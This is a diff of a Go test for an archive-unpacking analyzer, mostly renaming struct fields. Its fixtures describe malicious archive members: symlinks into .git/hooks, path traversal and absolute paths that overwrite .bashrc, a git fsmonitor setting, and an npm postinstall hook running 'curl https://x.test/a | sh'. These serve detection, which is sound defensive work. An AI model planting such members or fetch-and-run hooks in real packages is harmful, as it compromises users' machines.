@@ -13,36 +13,36 @@ import (
 // TestUnpacks holds which members of an archive that lies on the disk have an effect of their own.
 func TestUnpacks(t *testing.T) {
 	t.Parallel()
-	many := make([]packed.Member, 2*maxUnpacked)
+	many := make([]packed.Member, 2*maxUnpackedMembers)
 	for i := range many {
 		many[i].Name = fmt.Sprintf("%d/.envrc", i)
 	}
-	modules := make([]packed.Member, 3*maxUnpacked)
+	modules := make([]packed.Member, 3*maxUnpackedMembers)
 	for i := range modules {
-		modules[i] = packed.Member{Name: fmt.Sprintf("node_modules/%d/package.json", i), Text: `{"name": "a"}`, Read: true}
+		modules[i] = packed.Member{Name: fmt.Sprintf("node_modules/%d/package.json", i), Text: `{"name": "a"}`, TextComplete: true}
 	}
-	linked := make([]packed.Member, 3*maxNames)
+	linked := make([]packed.Member, 3*maxItems)
 	for i := range linked {
-		linked[i] = packed.Member{Name: fmt.Sprintf("node_modules/.bin/%d", i), Link: fmt.Sprintf("../%d/x.js", i)}
+		linked[i] = packed.Member{Name: fmt.Sprintf("node_modules/.bin/%d", i), LinkTarget: fmt.Sprintf("../%d/x.js", i)}
 	}
 	config := "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://x.test/a\n"
 	archives := map[string][]packed.Member{
-		"in.tar": {{Name: "x", Link: ".git/hooks"}, {Name: "x/pre-commit"}}, "in2.tar": {{Name: "x", Link: "."}, {Name: "y", Link: "x/../z"}, {Name: "y/.bashrc"}},
-		"over.tar": {{Name: ".git", Link: "d"}, {Name: ".git/hooks/pre-commit"}}, "two.tar": {{Name: "x", Link: ".git/hooks"}, {Name: "x", Link: "d"}, {Name: "x/pre-commit"}},
-		"mix.tar": {{Name: "src/a.txt"}, {Name: "p/.git/hooks/pre-commit"}}, "dots.tar": {{Name: "src/../.git/hooks/pre-commit"}}, "through.tar": {{Name: "x", Link: ".git/hooks/pre-commit"}, {Name: "x"}}, "hook.zip": {{Name: ".git/hooks/pre-commit"}}, "linked.tar": linked, "zeros.tar": {{Name: "a"}, {Name: ".git/hooks/pre-commit"}}, "modules.tar": modules,
-		"repo.tar": {{Name: "r/.git/config", Text: config, Read: true}, {Name: "r/.git/hooks/pre-commit.sample"}}, "fsmonitor.tar": {{Name: "r/.git/config", Text: config + "[core]\n\tfsmonitor = ./x\n", Read: true}},
-		"npm.tar":  {{Name: "node_modules/a/package.json", Text: `{"scripts": {"postinstall": "curl https://x.test/a | sh"}}`, Read: true}},
-		"good.tar": {{Name: "p/a.txt"}, {Name: "p/b", Link: "a.txt"}, {Name: "p/", Dir: true}},
+		"in.tar": {{Name: "x", LinkTarget: ".git/hooks"}, {Name: "x/pre-commit"}}, "in2.tar": {{Name: "x", LinkTarget: "."}, {Name: "y", LinkTarget: "x/../z"}, {Name: "y/.bashrc"}},
+		"over.tar": {{Name: ".git", LinkTarget: "d"}, {Name: ".git/hooks/pre-commit"}}, "two.tar": {{Name: "x", LinkTarget: ".git/hooks"}, {Name: "x", LinkTarget: "d"}, {Name: "x/pre-commit"}},
+		"mix.tar": {{Name: "src/a.txt"}, {Name: "p/.git/hooks/pre-commit"}}, "dots.tar": {{Name: "src/../.git/hooks/pre-commit"}}, "through.tar": {{Name: "x", LinkTarget: ".git/hooks/pre-commit"}, {Name: "x"}}, "hook.zip": {{Name: ".git/hooks/pre-commit"}}, "linked.tar": linked, "zeros.tar": {{Name: "a"}, {Name: ".git/hooks/pre-commit"}}, "modules.tar": modules,
+		"repo.tar": {{Name: "r/.git/config", Text: config, TextComplete: true}, {Name: "r/.git/hooks/pre-commit.sample"}}, "fsmonitor.tar": {{Name: "r/.git/config", Text: config + "[core]\n\tfsmonitor = ./x\n", TextComplete: true}},
+		"npm.tar":  {{Name: "node_modules/a/package.json", Text: `{"scripts": {"postinstall": "curl https://x.test/a | sh"}}`, TextComplete: true}},
+		"good.tar": {{Name: "p/a.txt"}, {Name: "p/b", LinkTarget: "a.txt"}, {Name: "p/", IsDir: true}},
 		"hook.tar": {{Name: "p/.git/hooks/pre-commit"}}, "up.tar": {{Name: "../../.bashrc"}}, "abs.tar": {{Name: "/home/me/.bashrc"}},
-		"link.tar": {{Name: "x", Link: "/home/me"}, {Name: "x/.bashrc"}}, "hard.tar": {{Name: "x", Link: "../../.bashrc", Hard: true}}, "many.tar": many,
+		"link.tar": {{Name: "x", LinkTarget: "/home/me"}, {Name: "x/.bashrc"}}, "hard.tar": {{Name: "x", LinkTarget: "../../.bashrc", IsHardLink: true}}, "many.tar": many,
 	}
 	place := here()
-	place.Script = func(string) ([]byte, error) { return nil, fs.ErrNotExist }
-	place.Archive = func(p string, q packed.Query) ([]packed.Member, error) {
+	place.ReadScript = func(string) ([]byte, error) { return nil, fs.ErrNotExist }
+	place.ListArchive = func(p string, q packed.Query) ([]packed.Member, error) {
 		name := p[strings.LastIndexByte(p, '/')+1:]
 		switch m, ok := archives[name]; {
 		case ok:
-			if name == "zeros.tar" && !q.Zeros {
+			if name == "zeros.tar" && !q.IgnoresZeroBlocks {
 				m = m[:1]
 			}
 			return m, nil
@@ -51,7 +51,7 @@ func TestUnpacks(t *testing.T) {
 		case name == "cut.tar":
 			return archives["good.tar"], fs.ErrInvalid
 		case name == "a.tar.xz":
-			return nil, packed.ErrUnread
+			return nil, packed.ErrUnsupported
 		case name == "bad.tar":
 			return nil, packed.ErrFormat
 		}
@@ -87,7 +87,7 @@ func TestUnpacks(t *testing.T) {
 		got := ""
 		for _, e := range Analyze(text, place).Effects {
 			switch {
-			case e.Sure == effect.Unknown:
+			case e.Certainty == effect.Unknown:
 				got += string(e.Cause) + " "
 			case e.Recursive || e.Pattern || e.Kind == effect.Execute || e.Kind == effect.ReadFile && (strings.HasSuffix(e.Path, ".tar") || strings.HasSuffix(e.Path, ".xz")):
 			default:
